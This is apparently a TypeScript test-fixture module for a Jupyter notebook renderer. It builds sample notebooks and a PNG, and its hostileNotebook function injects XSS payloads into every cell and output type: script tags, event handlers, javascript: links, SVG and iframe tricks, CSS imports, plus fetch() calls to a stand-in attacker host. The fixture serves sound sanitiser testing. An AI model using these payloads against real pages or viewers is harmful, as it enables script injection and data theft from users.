import { crc32, deflateSync } from 'node:zlib';

interface Cell {
  cell_type: 'markdown' | 'code';
  source: string;
  outputs?: object[];
  attachments?: object;
}

/** A notebook file of those cells, as Jupyter writes it. */
export function notebookFile(cells: readonly Cell[]): string {
  return JSON.stringify({
    nbformat: 4,
    nbformat_minor: 5,
    metadata: {
      kernelspec: { name: 'python3', display_name: 'Python 3', language: 'python' },
      language_info: { name: 'python' },
    },
    cells: cells.map((cell, at) => ({
      ...cell,
      id: `cell-${String(at)}`,
      metadata: {},
      ...(cell.cell_type === 'code' ? { execution_count: at, outputs: cell.outputs ?? [] } : {}),
    })),
  });
}

const display = (data: Record<string, string>): object => ({ output_type: 'display_data', metadata: {}, data });

/** As saved after a run: a table, a plot, an error. */
export const executedNotebook: readonly Cell[] = [
  { cell_type: 'markdown', source: '# Reads per gene\nThe mean is $\\bar x$.' },
  {
    cell_type: 'code',
    source: 'table',
    outputs: [
      display({
        'text/plain': 'gene reads',
        'text/html':
          '<table border="1" class="dataframe"><thead><tr><th></th><th>gene</th><th>reads</th></tr></thead>' +
          '<tbody><tr><th>0</th><td>BRCA1</td><td>12</td></tr><tr><th>1</th><td>TP53</td><td>7</td></tr></tbody></table>',
      }),
    ],
  },
  { cell_type: 'code', source: 'plt.plot(reads)', outputs: [display({ 'image/png': stripes(240, 120) })] },
  {
    cell_type: 'code',
    source: '1 / 0',
    outputs: [
      {
        output_type: 'error',
        ename: 'ZeroDivisionError',
        evalue: 'division by zero',
        traceback: [
          '\u001b[0;31m---------------------------------------------------------------------------\u001b[0m',
          '\u001b[0;31mZeroDivisionError\u001b[0m                         Traceback (most recent call last)',
          '\u001b[0;31mZeroDivisionError\u001b[0m: division by zero',
        ],
      },
    ],
  },
];

/** Not run yet; its table and plot fit on one screen with its code. */
export const pictureNotebook: readonly Cell[] = [
  {
    cell_type: 'markdown',
    source: '## How steep are the Cumberland Mountains?',
  },
  {
    cell_type: 'code',
    source: `import numpy as np, pandas as pd, matplotlib.pyplot as plt
from matplotlib.cbook import get_sample_data
elevation = np.load(get_sample_data("jacksboro_fault_dem.npz", asfileobj=False))["elevation"].astype(float)
slope = np.degrees(np.arctan(np.hypot(*np.gradient(elevation, 93, 74))))
bands = pd.cut(elevation.ravel(), [200, 400, 600, 800, 1100])
pd.DataFrame({"slope (°)": slope.ravel()}).groupby(bands).describe().droplevel(0, axis=1).round(1)`,
  },
  {
    cell_type: 'code',
    source: `fig, (relief, steepness) = plt.subplots(1, 2, figsize=(11.6, 2.1), dpi=90, layout="constrained")
for ax, data, colours, unit in (relief, elevation, "gist_earth", "m"), (steepness, slope, "magma", "°"):
    fig.colorbar(ax.imshow(data, cmap=colours, aspect="auto"), ax=ax, label=unit)`,
  },
];

/** Tries in every kind of cell and output to run a script in the page, and to reach `attacker` by any means. */
export function hostileNotebook(attacker: string): readonly Cell[] {
  const steal = (from: string) =>
    `top.owned='${from}';window.owned='${from}';fetch('${attacker}/${from}');alert('${from}')`;
  const html = (from: string) => `
    <p>Harmless text</p>
    <script>${steal(`${from}-script`)}</script>
    <script src="${attacker}/${from}-script-src"></script>
    <img src="${attacker}/${from}-img" onerror="${steal(`${from}-onerror`)}">
    <svg onload="${steal(`${from}-svg-onload`)}"><image href="${attacker}/${from}-svg-image"/></svg>
    <iframe src="${attacker}/${from}-iframe" srcdoc="<script>${steal(`${from}-srcdoc`)}</script>"></iframe>
    <object data="${attacker}/${from}-object"></object><embed src="${attacker}/${from}-embed">
    <link rel="stylesheet" href="${attacker}/${from}-link"><base href="${attacker}/">
    <meta http-equiv="refresh" content="0;url=${attacker}/${from}-refresh">
    <style>@import url(${attacker}/${from}-import); body { background: url(${attacker}/${from}-background) }</style>
    <div style="background-image: url(${attacker}/${from}-style)">styled</div>
    <form action="${attacker}/${from}-form"><input name="x" autofocus onfocus="${steal(`${from}-focus`)}"></form>
    <video src="${attacker}/${from}-video" autoplay></video><audio src="${attacker}/${from}-audio"></audio>
    <a href="javascript:${steal(`${from}-href`)}">click me</a>`;
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="40" onload="${steal('image-svg-onload')}">
    <script>${steal('image-svg-script')}</script>
    <image width="10" height="10" xlink:href="${attacker}/image-svg-image"/>
    <use href="${attacker}/image-svg-use#a"/>
    <foreignObject width="50" height="20"><body xmlns="http://www.w3.org/1999/xhtml"><img src="${attacker}/foreign" onerror="${steal('foreign')}"/></body></foreignObject>
    <text x="2" y="30">Harmless text</text></svg>`;
  return [
    { cell_type: 'markdown', source: `Harmless text\n\n${html('markdown')}\n\n![](${attacker}/markdown-image)` },
    {
      cell_type: 'markdown',
      source: `[click me](javascript:alert(1)) $\\href{javascript:alert(1)}{x}$ $\\includegraphics{${attacker}/tex}$`,
    },
    { cell_type: 'code', source: 'html', outputs: [display({ 'text/html': html('html') })] },
    { cell_type: 'code', source: 'svg', outputs: [display({ 'image/svg+xml': svg })] },
    { cell_type: 'code', source: 'markdown', outputs: [display({ 'text/markdown': html('output-markdown') })] },
    { cell_type: 'code', source: 'latex', outputs: [display({ 'text/latex': '$\\href{javascript:alert(1)}{x}$' })] },
    { cell_type: 'code', source: 'js', outputs: [display({ 'application/javascript': steal('javascript') })] },
    {
      cell_type: 'code',
      source: 'stream',
      outputs: [
        {
          output_type: 'stream',
          name: 'stdout',
          text: `${html('stream')}\u001b]8;;javascript:alert(1)\u0007x\u001b]8;;\u0007`,
        },
      ],
    },
    {
      cell_type: 'code',
      source: 'error',
      outputs: [{ output_type: 'error', ename: 'E', evalue: 'e', traceback: [html('traceback')] }],
    },
    { cell_type: 'markdown', source: 'the last cell' },
  ];
}

/** A PNG of coloured stripes, in base64. */
export function stripes(width: number, height: number): string {
  const row = Buffer.alloc(1 + width * 3);
  for (let x = 0; x < width; x += 1) row.set(x % 20 < 10 ? [31, 119, 180] : [230, 236, 240], 1 + x * 3);
  const chunk = (type: string, data: Buffer): Buffer => {
    const body = Buffer.concat([Buffer.from(type, 'ascii'), data]);
    const framed = Buffer.alloc(body.length + 8);
    framed.writeUInt32BE(data.length);
    body.copy(framed, 4);
    framed.writeUInt32BE(crc32(body), body.length + 4);
    return framed;
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 2, 0, 0, 0], 8);
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(Buffer.concat(Array.from({ length: height }, () => row)))),
    chunk('IEND', Buffer.alloc(0)),
  ]).toString('base64');
}
